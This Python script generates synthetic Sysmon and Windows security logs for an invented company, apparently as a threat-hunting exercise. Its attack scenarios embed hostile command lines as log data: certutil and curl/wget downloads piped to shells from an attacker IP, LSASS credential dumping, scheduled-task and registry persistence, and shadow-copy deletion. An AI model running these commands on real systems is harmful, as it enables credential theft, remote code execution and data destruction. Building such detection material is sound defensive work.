#!/usr/bin/env python3
"""Writes the logs of the example workspace: an invented company, an invented week, an invented attack.

  make_logs.py        writes logs/ beside this script; the same bytes every time

Everything is synthetic: hosts, users, addresses and command lines are made up. Shapes as tools write them: evtx_dump
(one event a line), winlogbeat, and Sysmon for Linux in the evtx_dump shape.
"""
import datetime
import gzip
import json
import pathlib
import random

HERE = pathlib.Path(__file__).resolve().parent
SEED = 20260824
DOMAIN = 'ALDERWICK'
ZONE = 'alderwick.example'
USERS = ['m.oduya', 'j.castellan', 'p.lindqvist', 's.baumann', 'r.achterberg', 'k.mori', 'd.fenwick', 'a.sorel', 't.vance']
HOSTS = {user: f'AW-PC{number:02}' for number, user in enumerate(USERS, 11)}
LINUX_HOSTS = ['aw-build01', 'aw-web01', 'aw-db01']
SYS32 = 'C:\\Windows\\System32\\'
PROGRAMS = 'C:\\Program Files\\'
SYSMON = 'Microsoft-Windows-Sysmon'


class Writer:
    """Makes events with ids and hashes that follow from the seed."""

    def __init__(self, seed):
        self.random = random.Random(seed)
        self.record = self.random.randrange(20_000, 60_000)

    def guid(self):
        text = f'{self.random.getrandbits(128):032X}'
        return f'{{{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}}}'

    def pid(self):
        return self.random.randrange(300, 4000) * 4

    def hashes(self):
        return f'SHA256={self.random.getrandbits(256):064X}'

    def event(self, time, host, provider, channel, event_id, data):
        self.record += self.random.choice((1, 1, 1, 2, 3))
        return {'time': time, 'host': host, 'provider': provider, 'channel': channel, 'id': event_id, 'data': data,
                'record': self.record}

    def sysmon(self, time, host, event_id, data):
        head = {'RuleName': '-', 'UtcTime': f'{time:%Y-%m-%d %H:%M:%S}.{time.microsecond // 1000:03}'}
        return self.event(time, host, SYSMON, SYSMON + '/Operational', event_id, head | data)

    def process(self, time, user, image, line, parent, parent_line=None, level='Medium', original=None, folder=None):
        name = image.rsplit('\\', 1)[-1]
        return self.sysmon(time, f'{HOSTS[user]}.{ZONE}', 1, {
            'ProcessGuid': self.guid(), 'ProcessId': self.pid(), 'Image': image, 'FileVersion': '10.0.22621.1',
            'Description': name, 'Product': '-', 'Company': '-', 'OriginalFileName': original or name,
            'CommandLine': line, 'CurrentDirectory': folder or f'C:\\Users\\{user}\\', 'User': f'{DOMAIN}\\{user}',
            'LogonGuid': self.guid(), 'LogonId': hex(self.random.randrange(0x10000, 0xfffff)), 'TerminalSessionId': 1,
            'IntegrityLevel': level, 'Hashes': self.hashes(), 'ParentProcessGuid': self.guid(),
            'ParentProcessId': self.pid(), 'ParentImage': parent, 'ParentCommandLine': parent_line or f'"{parent}"',
            'ParentUser': f'{DOMAIN}\\{user}'})

    def acting(self, user, image):
        return {'ProcessGuid': self.guid(), 'ProcessId': self.pid(), 'Image': image, 'User': f'{DOMAIN}\\{user}'}

    def connection(self, time, user, image, address, port, host='-'):
        return self.sysmon(time, f'{HOSTS[user]}.{ZONE}', 3, self.acting(user, image) | {
            'Protocol': 'tcp', 'Initiated': True, 'SourceIsIpv6': False,
            'SourceIp': f'10.20.4.{11 + USERS.index(user)}', 'SourceHostname': f'{HOSTS[user]}.{ZONE}',
            'SourcePort': self.random.randrange(49200, 65000), 'SourcePortName': '-', 'DestinationIsIpv6': False,
            'DestinationIp': address, 'DestinationHostname': host, 'DestinationPort': port, 'DestinationPortName': '-'})

    def load(self, time, user, image, library, signature='Microsoft Windows', status='Valid'):
        signed = 'true' if status == 'Valid' else 'false'
        return self.sysmon(time, f'{HOSTS[user]}.{ZONE}', 7, self.acting(user, image) | {
            'ImageLoaded': library, 'FileVersion': '-', 'Description': '-', 'Product': '-', 'Company': '-',
            'OriginalFileName': library.rsplit('\\', 1)[-1], 'Hashes': self.hashes(), 'Signed': signed,
            'Signature': signature, 'SignatureStatus': status})

    def file(self, time, user, image, path):
        return self.sysmon(time, f'{HOSTS[user]}.{ZONE}', 11, self.acting(user, image) | {
            'TargetFilename': path, 'CreationUtcTime': f'{time:%Y-%m-%d %H:%M:%S}.000'})

    def registry(self, time, user, image, target, details):
        return self.sysmon(time, f'{HOSTS[user]}.{ZONE}', 13, {'EventType': 'SetValue'} | self.acting(user, image) | {
            'TargetObject': target, 'Details': details})

    def audit(self, time, host, user, image, line, parent, label='S-1-16-8192'):
        return self.event(time, f'{host}.{ZONE}', 'Microsoft-Windows-Security-Auditing', 'Security', 4688, {
            'SubjectUserSid': 'S-1-5-21-1104-2208-3312-' + str(1100 + len(user)), 'SubjectUserName': user,
            'SubjectDomainName': DOMAIN, 'SubjectLogonId': hex(self.random.randrange(0x10000, 0xfffff)),
            'NewProcessId': hex(self.pid()), 'NewProcessName': image, 'TokenElevationType': '%%1936',
            'ProcessId': hex(self.pid()), 'CommandLine': line, 'TargetUserSid': 'S-1-0-0', 'TargetUserName': '-',
            'TargetDomainName': '-', 'TargetLogonId': '0x0', 'ParentProcessName': parent, 'MandatoryLabel': label})

    def linux(self, time, host, event_id, data):
        head = {'RuleName': '-', 'UtcTime': f'{time:%Y-%m-%d %H:%M:%S}.{time.microsecond // 1000:03}'}
        return self.event(time, host, 'Linux-Sysmon', 'Linux-Sysmon/Operational', event_id, head | data)

    def linux_process(self, time, host, user, image, line, parent, parent_line='-'):
        return self.linux(time, host, 1, {
            'ProcessGuid': self.guid(), 'ProcessId': self.pid(), 'Image': image, 'FileVersion': '-', 'Description': '-',
            'Product': '-', 'Company': '-', 'OriginalFileName': '-', 'CommandLine': line,
            'CurrentDirectory': f'/home/{user}' if user != 'root' else '/root', 'User': user,
            'LogonGuid': self.guid(), 'LogonId': '1000', 'TerminalSessionId': 3, 'IntegrityLevel': 'no level',
            'Hashes': '-', 'ParentProcessGuid': self.guid(), 'ParentProcessId': self.pid(), 'ParentImage': parent,
            'ParentCommandLine': parent_line, 'ParentUser': user})

    def linux_file(self, time, host, user, image, path):
        return self.linux(time, host, 11, {
            'ProcessGuid': self.guid(), 'ProcessId': self.pid(), 'Image': image, 'TargetFilename': path,
            'CreationUtcTime': f'{time:%Y-%m-%d %H:%M:%S}.000', 'User': user})


def evtx_dump(event):
    """The shape of `evtx_dump -o jsonl`."""
    stamp = f'{event["time"]:%Y-%m-%dT%H:%M:%S.%f}Z'
    return {'Event': {
        '#attributes': {'xmlns': 'http://schemas.microsoft.com/win/2004/08/events/event'},
        'System': {'Provider': {'#attributes': {'Name': event['provider']}}, 'EventID': event['id'], 'Version': 5,
                   'Level': 4, 'Task': event['id'], 'Opcode': 0, 'Keywords': '0x8000000000000000',
                   'TimeCreated': {'#attributes': {'SystemTime': stamp}}, 'EventRecordID': event['record'],
                   'Correlation': None, 'Execution': {'#attributes': {'ProcessID': 3120, 'ThreadID': 4408}},
                   'Channel': event['channel'], 'Computer': event['host'],
                   'Security': {'#attributes': {'UserID': 'S-1-5-18'}}},
        'EventData': event['data']}}


def winlogbeat(event):
    """The shape of Winlogbeat 8: every value of the event data is text."""
    def text(value):
        return str(value).lower() if isinstance(value, bool) else str(value)
    return {
        '@timestamp': f'{event["time"]:%Y-%m-%dT%H:%M:%S}.{event["time"].microsecond // 1000:03}Z',
        'agent': {'type': 'winlogbeat', 'version': '8.14.1'}, 'ecs': {'version': '8.0.0'},
        'event': {'code': str(event['id']), 'kind': 'event', 'provider': event['provider']},
        'host': {'name': event['host']},
        'winlog': {'api': 'wineventlog', 'channel': event['channel'], 'computer_name': event['host'],
                   'event_id': str(event['id']), 'provider_name': event['provider'], 'record_id': event['record'],
                   'event_data': {key: text(value) for key, value in event['data'].items() if value != '-'}}}


def chat_parent(writer, user):
    return writer.random.choice((
        f'C:\\Users\\{user}\\AppData\\Local\\slack\\app-4.41.2\\slack.exe',
        f'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
        f'C:\\Users\\{user}\\AppData\\Local\\Discord\\app-1.0.9\\Discord.exe',
        f'C:\\Users\\{user}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe'))


def ordinary(writer, time, user):
    """One event of an ordinary day on a workstation."""
    pick = writer.random.choice
    edge = 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe'
    explorer = 'C:\\Windows\\explorer.exe'
    svchost = SYS32 + 'svchost.exe'
    word = PROGRAMS + 'Microsoft Office\\root\\Office16\\WINWORD.EXE'
    number = writer.random.randrange(1000, 9999)
    choice = writer.random.random()
    if choice < 0.22:
        image, line, parent = pick((
            (edge, f'"{edge}" --type=renderer --renderer-client-id={number}', edge),
            (edge, f'"{edge}" --single-argument https://intranet.{ZONE}/page/{number}', explorer),
            (word, f'"{word}" /n "C:\\Users\\{user}\\Documents\\offer-{number}.docx"', explorer),
            (SYS32 + 'notepad.exe', f'notepad.exe C:\\Users\\{user}\\Documents\\notes-{number}.txt', explorer),
            (SYS32 + 'backgroundTaskHost.exe', 'backgroundTaskHost.exe -ServerName:App.Quiet', svchost),
            (SYS32 + 'taskhostw.exe', 'taskhostw.exe Logon', svchost),
            (SYS32 + 'conhost.exe', 'conhost.exe 0xffffffff -ForceV1', SYS32 + 'cmd.exe'),
            (SYS32 + 'cmd.exe', 'cmd.exe /c "C:\\Scripts\\map-drives.cmd"', explorer),
            (SYS32 + 'ie4uinit.exe', 'ie4uinit.exe -ClearIconCache', SYS32 + 'runonce.exe'),
            (SYS32 + 'schtasks.exe', 'schtasks /query /fo list', SYS32 + 'cmd.exe'),
            (SYS32 + 'rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL timedate.cpl', explorer)))
        return writer.process(time, user, image, line, parent)
    if choice < 0.26:
        image, line = pick((
            (SYS32 + 'cmd.exe', 'cmd.exe /d /c "nvidia-smi --query-gpu=driver_version --format=csv"'),
            (SYS32 + 'cmd.exe', 'cmd.exe /c taskkill /im Update.exe /f'),
            (SYS32 + 'rundll32.exe', 'rundll32.exe user32.dll,SetFocus 0')))
        return writer.process(time, user, image, line, chat_parent(writer, user))
    if choice < 0.262:
        line = f'cmd.exe /c "C:\\Users\\{user}\\AppData\\Roaming\\Zoom\\bin\\repair.cmd"'
        return writer.process(time, user, SYS32 + 'cmd.exe', line, chat_parent(writer, user))
    if choice < 0.30:
        powershell = SYS32 + 'WindowsPowerShell\\v1.0\\powershell.exe'
        if writer.random.random() < 0.3:
            code = 'RwBlAHQALQBDAG8AbQBwAHUAdABlAHIASQBuAGYAbwAgAHwAIABPAHUAdAAtAE4AdQBsAGwA'
            return writer.process(time, user, powershell, f'powershell.exe -NoProfile -EncodedCommand {code}',
                                  PROGRAMS + 'InventoryAgent\\agent.exe', level='System')
        return writer.process(time, user, powershell, 'powershell.exe -File C:\\Scripts\\report.ps1', svchost)
    if choice < 0.52:
        image, address, port, host = pick((
            (edge, f'198.51.100.{writer.random.randrange(2, 250)}', 443, 'static.press.example'),
            (edge, '10.20.1.15', 443, f'intranet.{ZONE}'),
            (svchost, '10.20.1.2', 53, f'dc01.{ZONE}'),
            (PROGRAMS + 'Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '10.20.1.8', 443, f'mail.{ZONE}'),
            (SYS32 + 'wscript.exe', '10.20.1.15', 443, f'intranet.{ZONE}')))
        return writer.connection(time, user, image, address, port, host)
    if choice < 0.74:
        image, library = pick((
            (edge, SYS32 + 'version.dll'), (explorer, SYS32 + 'propsys.dll'), (word, SYS32 + 'msxml6.dll'),
            (svchost, SYS32 + 'crypt32.dll'), (SYS32 + 'lsass.exe', SYS32 + 'kerberos.dll'),
            (word, SYS32 + 'version.dll')))
        if writer.random.random() < 0.004:
            return writer.load(time, user, 'C:\\Games\\Ferrywood\\ferrywood.exe', 'C:\\Games\\Ferrywood\\version.dll', '-',
                               'Unavailable')
        return writer.load(time, user, image, library)
    if choice < 0.90:
        image, path = pick((
            (edge, f'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cache\\f_{number}'),
            (edge, f'C:\\Users\\{user}\\Downloads\\timetable-{number}.pdf'),
            (word, f'C:\\Users\\{user}\\Documents\\~$offer-{number}.docx'),
            (svchost, f'C:\\Windows\\Prefetch\\MSEDGE.EXE-{number}.pf')))
        return writer.file(time, user, image, path)
    hive = f'HKU\\S-1-5-21-1104-2208-3312-{1100 + USERS.index(user)}\\Software\\Microsoft\\'
    image, target, details = pick((
        (explorer, hive + f'Windows\\CurrentVersion\\Explorer\\RecentDocs\\{number}', 'Binary Data'),
        (edge, hive + 'Edge\\BLBeacon\\state', 'DWORD (0x00000001)'),
        (svchost, 'HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\DhcpDomain', ZONE),
        (f'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\Update.exe', hive + 'Windows\\CurrentVersion\\Run\\Teams',
         f'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart "Teams.exe"')))
    if writer.random.random() < 0.02:
        return writer.registry(time, user, f'C:\\Users\\{user}\\Downloads\\PenTablet.exe',
                               hive + 'Windows\\CurrentVersion\\Run\\PenTablet',
                               f'C:\\Users\\{user}\\AppData\\Roaming\\PenTablet\\tray.exe')
    return writer.registry(time, user, image, target, details)


def ordinary_audit(writer, time, host):
    image, line, parent, user = writer.random.choice((
        (SYS32 + 'svchost.exe', 'svchost.exe -k netsvcs -p', SYS32 + 'services.exe', host + '$'),
        (SYS32 + 'taskhostw.exe', 'taskhostw.exe', SYS32 + 'svchost.exe', host + '$'),
        (SYS32 + 'wbem\\WmiPrvSE.exe', 'wmiprvse.exe -secured -Embedding', SYS32 + 'svchost.exe', host + '$'),
        (SYS32 + 'vssadmin.exe', 'vssadmin list shadows', PROGRAMS + 'NightBackup\\backup.exe', 'svc.backup'),
        (SYS32 + 'cmd.exe', 'cmd.exe /c C:\\Scripts\\rotate.cmd', SYS32 + 'svchost.exe', 'svc.backup')))
    return writer.audit(time, host, user, image, line, parent, 'S-1-16-16384')


def ordinary_linux(writer, time, host):
    number = writer.random.randrange(100, 999)
    choice = writer.random.random()
    if choice < 0.8:
        image, line, parent, user = writer.random.choice((
            ('/usr/bin/bash', 'bash /opt/build/run.sh', '/usr/bin/runner', 'build'),
            ('/usr/bin/git', f'git fetch origin refs/merge/{number}', '/usr/bin/bash', 'build'),
            ('/usr/bin/make', 'make -j4 all', '/usr/bin/bash', 'build'),
            ('/usr/bin/curl', f'curl -sS https://artifacts.{ZONE}/lib-{number}.tar.zst -o lib.tar.zst', '/usr/bin/bash', 'build'),
            ('/usr/sbin/logrotate', 'logrotate /etc/logrotate.conf', '/usr/sbin/cron', 'root'),
            ('/usr/sbin/setcap', 'setcap cap_net_raw+ep /usr/bin/ping', '/usr/bin/dpkg', 'root'),
            ('/usr/bin/sh', 'sh -c "df -h / | tail -1"', '/usr/bin/node_exporter', 'monitor')))
        return writer.linux_process(time, host, user, image, line, parent)
    image, path, user = writer.random.choice((
        ('/usr/bin/runner', f'/opt/build/work/{number}/log.txt', 'build'),
        ('/usr/bin/dpkg', '/etc/cron.d/sysstat.dpkg-new', 'root'),
        ('/usr/sbin/rsyslogd', '/var/log/syslog', 'root')))
    return writer.linux_file(time, host, user, image, path)


def attack_on_workstation(writer, start):
    """From a chat message to stolen credentials, on the computers of two users."""
    step = [start]

    def later(seconds):
        step[0] += datetime.timedelta(seconds=seconds, milliseconds=writer.random.randrange(1000))
        return step[0]
    user, second = 'k.mori', 'd.fenwick'
    home = f'C:\\Users\\{user}\\'
    slack = home + 'AppData\\Local\\slack\\app-4.41.2\\slack.exe'
    powershell = SYS32 + 'WindowsPowerShell\\v1.0\\powershell.exe'
    code = ('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQA'
            'UwB0AHIAaQBuAGcA')
    cmd = SYS32 + 'cmd.exe'
    yield writer.file(later(0), user, slack, home + 'Downloads\\invoice-7731.js')
    yield writer.process(later(41), user, SYS32 + 'wscript.exe', f'wscript.exe //B {home}Downloads\\invoice-7731.js', slack)
    yield writer.connection(later(2), user, SYS32 + 'wscript.exe', '203.0.113.77', 443, 'cdn.ledgerpost.example')
    yield writer.process(later(3), user, cmd, 'cmd.exe /c powershell -nop -w hidden -enc ' + code, SYS32 + 'wscript.exe')
    yield writer.process(later(1), user, powershell, 'powershell -nop -w hidden -enc ' + code, cmd)
    yield writer.process(later(9), user, SYS32 + 'certutil.exe',
                         f'certutil.exe -urlcache -split -f http://203.0.113.77/t.bin {home}AppData\\Local\\Temp\\t.bin', cmd,
                         original='CertUtil.exe')
    yield writer.process(later(4), user, 'C:\\Users\\Public\\helper.exe',
                         'C:\\Users\\Public\\helper.exe /verifyctl -f http://203.0.113.77/u.bin', cmd, original='CertUtil.exe')
    yield writer.process(later(30), user, SYS32 + 'whoami.exe', 'whoami /all', cmd)
    yield writer.process(later(22), user, SYS32 + 'schtasks.exe',
                         'schtasks.exe /create /tn "Ledger Sync" /tr C:\\Users\\Public\\helper.exe /sc onlogon', cmd)
    run = 'HKU\\S-1-5-21-1104-2208-3312-1105\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\LedgerSync'
    yield writer.registry(later(5), user, SYS32 + 'reg.exe', run, home + 'AppData\\Roaming\\ledger\\sync.exe')
    yield writer.file(later(8), user, powershell,
                      home + 'AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\sync.vbs')
    yield writer.process(later(60), user, home + 'AppData\\Local\\Temp\\ie4uinit.exe', 'ie4uinit.exe -BaseSettings', cmd,
                         original='IE4UINIT.EXE')
    yield writer.load(later(35), user, home + 'AppData\\Roaming\\ledger\\sync.exe',
                      home + 'AppData\\Roaming\\ledger\\version.dll', '-', 'Unavailable')
    yield writer.process(later(300), user, SYS32 + 'rundll32.exe',
                         f'rundll32.exe {SYS32}comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\q.bin full', cmd, level='High')
    yield writer.process(later(70), user, 'C:\\Users\\Public\\pd.exe', 'pd.exe -accepteula -ma lsass.exe q2.dmp', cmd,
                         level='High', original='procdump')
    yield writer.load(later(120), user, SYS32 + 'lsass.exe', SYS32 + 'ledgerpw.dll', '-', 'Unavailable')
    teams = f'C:\\Users\\{second}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe'
    yield writer.process(later(500), second, SYS32 + 'rundll32.exe',
                         f'rundll32.exe C:\\Users\\{second}\\Downloads\\notes.dll,Open', teams)
    yield writer.process(later(6), second, cmd, 'cmd.exe /d /s /c "whoami /all > %TEMP%\\o.txt"', teams)
    yield writer.process(later(80), second, SYS32 + 'schtasks.exe',
                         f'schtasks /create /tn Notes /tr C:\\Users\\{second}\\AppData\\Local\\Temp\\n.exe /sc daily', cmd)
    yield writer.registry(later(9), second, SYS32 + 'reg.exe',
                          'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections',
                          'DWORD (0x00000000)')


def attack_by_mail(writer, start):
    time = start
    user = 'a.sorel'
    word = PROGRAMS + 'Microsoft Office\\root\\Office16\\WINWORD.EXE'
    steps = (
        lambda: writer.process(time, user, SYS32 + 'mshta.exe', 'mshta.exe https://forms.ledgerpost.example/a.hta', word),
        lambda: writer.connection(time, user, SYS32 + 'mshta.exe', '203.0.113.80', 443, 'forms.ledgerpost.example'),
        lambda: writer.process(time, user, SYS32 + 'certutil.exe',
                               'certutil -verifyctl -f -split http://203.0.113.80/k.bin k.bin', SYS32 + 'mshta.exe',
                               original='CertUtil.exe'),
        lambda: writer.process(time, user, SYS32 + 'cmd.exe', 'cmd.exe /c k.exe',
                               f'C:\\Users\\{user}\\AppData\\Local\\Discord\\app-1.0.9\\Discord.exe'),
        lambda: writer.file(time, user, SYS32 + 'mshta.exe',
                            f'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\k.lnk'))
    for step in steps:
        yield step()
        time += datetime.timedelta(seconds=writer.random.randrange(3, 50))


def attack_on_server(writer, start):
    time = start
    cmd = SYS32 + 'cmd.exe'
    for image, line, parent in (
            (cmd, 'cmd.exe /c whoami', SYS32 + 'wbem\\WmiPrvSE.exe'),
            (SYS32 + 'rundll32.exe', f'rundll32 {SYS32}comsvcs.dll,MiniDump 688 C:\\Windows\\Temp\\s.bin full', cmd),
            (SYS32 + 'certutil.exe', 'certutil /urlcache /f http://203.0.113.77/e.exe C:\\Windows\\Temp\\e.exe', cmd),
            (SYS32 + 'schtasks.exe', 'schtasks /create /ru SYSTEM /tn E /tr C:\\Windows\\Temp\\e.exe /sc once /st 23:10', cmd),
            (SYS32 + 'vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', cmd),
            (SYS32 + 'wbem\\wmic.exe', 'wmic.exe shadowcopy delete', cmd)):
        yield writer.audit(time, 'AW-FS01', 'svc.backup', image, line, parent, 'S-1-16-12288')
        time += datetime.timedelta(seconds=writer.random.randrange(5, 90))


def attack_on_linux(writer, start):
    time, host = start, 'aw-web01'
    steps = (
        lambda: writer.linux_process(time, host, 'www-data', '/usr/bin/dash',
                                     'sh -c "curl -fsS http://203.0.113.77/i.sh | bash"', '/usr/sbin/nginx'),
        lambda: writer.linux_process(time, host, 'www-data', '/usr/bin/bash', 'bash', '/usr/bin/dash'),
        lambda: writer.linux_process(time, host, 'root', '/usr/sbin/setcap', 'setcap cap_setuid+ep /usr/local/bin/pyw',
                                     '/usr/bin/bash'),
        lambda: writer.linux_process(time, host, 'root', '/usr/sbin/setcap',
                                     'setcap cap_setgid,cap_setuid=ep /tmp/.x/run', '/usr/bin/bash'),
        lambda: writer.linux_file(time, host, 'root', '/usr/bin/bash', '/etc/cron.d/apt-refresh'),
        lambda: writer.linux_process(time, host, 'root', '/usr/bin/bash',
                                     'bash -c "wget -qO- http://203.0.113.77/n | sudo sh"', '/usr/sbin/cron'))
    for step in steps:
        yield step()
        time += datetime.timedelta(seconds=writer.random.randrange(4, 200))


def working_times(writer, day, count):
    """Times of a working day, in order."""
    begin = datetime.datetime.combine(day, datetime.time(7, 0))
    return sorted(begin + datetime.timedelta(milliseconds=writer.random.randrange(11 * 3600 * 1000)) for _ in range(count))


def with_noise(writer, events, day, count, make):
    events = list(events) + [make(time) for time in working_times(writer, day, count)]
    events.sort(key=lambda event: (event['time'], event['record']))
    for number, event in enumerate(events, writer.record):
        event['record'] = number
    return events


def write(path, events, shape):
    path.parent.mkdir(parents=True, exist_ok=True)
    text = ''.join(json.dumps(shape(event), ensure_ascii=False, separators=(',', ':')) + '\n' for event in events)
    data = text.encode()
    path.write_bytes(gzip.compress(data, 9, mtime=0) if path.suffix == '.gz' else data)


def main():
    logs = HERE / 'logs'
    day = datetime.date(2026, 8, 18)
    at = datetime.datetime.combine(day, datetime.time(10, 12, 31))
    hours = datetime.timedelta(hours=1)

    writer = Writer(SEED)
    pair = ('k.mori', 'd.fenwick')
    write(logs / 'attack' / 'workstations.ndjson',
          with_noise(writer, attack_on_workstation(writer, at), day, 160,
                     lambda time: ordinary(writer, time, writer.random.choice(pair))), evtx_dump)
    writer = Writer(SEED + 1)
    write(logs / 'attack' / 'mail_winlogbeat.ndjson',
          with_noise(writer, attack_by_mail(writer, at + hours), day, 90,
                     lambda time: ordinary(writer, time, 'a.sorel')), winlogbeat)
    writer = Writer(SEED + 2)
    write(logs / 'attack' / 'file_server_security.ndjson',
          with_noise(writer, attack_on_server(writer, at + 2 * hours), day, 70,
                     lambda time: ordinary_audit(writer, time, 'AW-FS01')), evtx_dump)
    writer = Writer(SEED + 3)
    write(logs / 'attack' / 'web_server_sysmon.ndjson',
          with_noise(writer, attack_on_linux(writer, at + 3 * hours), day, 60,
                     lambda time: ordinary_linux(writer, time, 'aw-web01')), evtx_dump)

    writer = Writer(SEED + 4)
    week = []
    for offset in range(5):
        working = datetime.date(2026, 8, 10) + datetime.timedelta(days=offset)
        for time in working_times(writer, working, 1000):
            place = writer.random.random()
            if place < 0.8:
                week.append(ordinary(writer, time, writer.random.choice(USERS)))
            elif place < 0.9:
                week.append(ordinary_audit(writer, time, writer.random.choice(('AW-FS01', 'AW-DC01'))))
            else:
                week.append(ordinary_linux(writer, time, writer.random.choice(LINUX_HOSTS)))
    write(logs / 'baseline' / 'office_week.ndjson.gz', week, evtx_dump)


if __name__ == '__main__':
    main()
